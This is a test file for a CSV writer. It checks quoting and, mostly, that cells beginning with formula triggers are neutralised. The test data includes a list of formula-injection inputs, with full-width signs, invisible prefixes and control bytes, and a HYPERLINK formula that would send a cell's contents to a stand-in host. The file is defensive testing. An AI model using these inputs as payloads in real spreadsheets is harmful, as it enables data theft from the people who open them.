import { describe, expect, it } from 'vitest'
import { writeCsv } from './csv'

/** What stands in the one cell of a table's one row. */
function cell(text: string): string {
  return writeCsv({ columns: ['a'], rows: [[text]] }).slice('\ufeff"a"\r\n'.length)
}

describe('writeCsv', () => {
  it('begins with a byte-order mark and a header, and ends every record with CRLF', () => {
    expect(writeCsv({ columns: ['a', 'b'], rows: [['1', '']] })).toBe('\ufeff"a","b"\r\n"1",""\r\n')
  })

  it.each([
    ['a comma', 'one, two', '"one, two"'],
    ['quotation marks', 'the "new" berth', '"the ""new"" berth"'],
    ['a line feed', 'one\ntwo', '"one\ntwo"'],
    ['nothing of that', 'Arrivals rose − by 4.2 %', '"Arrivals rose − by 4.2 %"'],
    ['letters from right to left', 'ارتفع عدد', '"ارتفع عدد"'],
    // Excel parts cells at semicolons in most of Europe, LibreOffice at tabs too.
    ['a semicolon before a formula', 'one;=1+1', '"one;=1+1"'],
    ['a tab before a formula', 'one\t=1+1', '"one\t=1+1"'],
  ])('keeps %s', (_case, text, written) => {
    expect(cell(text)).toBe(`${written}\r\n`)
  })

  it.each([
    ['an equals sign', '=1+1'],
    ['a plus sign', '+1'],
    ['a minus sign', '-1'],
    ['an at sign', '@SUM(A1)'],
    ['a tab', '\t=1'],
    ['a carriage return', '\r=1'],
    ['a line feed', '\n=1'],
    ['a full-width equals sign', '＝1+1'],
    ['a full-width plus sign', '＋1'],
    ['a full-width minus sign', '－1'],
    ['a full-width at sign', '＠SUM(A1)'],
    ['a small equals sign', '﹦1+1'],
    ['a space before it', ' =1+1'],
    ['a no-break space before it', '\u00a0=1+1'],
    ['a byte-order mark before it', '\ufeff=1+1'],
    ['a zero-width space before it', '\u200b=1+1'],
    ['an override of direction before it', '\u202e=1+1'],
    ['a NUL before it', '\0=1+1'],
    ['an escape before it', '\x1b=1+1'],
    ['a quotation mark before it', '"=1+1'],
    ['a link that would send the sheet away', '=HYPERLINK("https://x.example/?"&A1,"look")'],
  ])('lets nothing run that begins with %s', (_case, text) => {
    expect(
      cell(text)
        .replace(/^"/, '')
        .startsWith(`'${text.slice(0, 1)}`),
    ).toBe(true)
  })
})
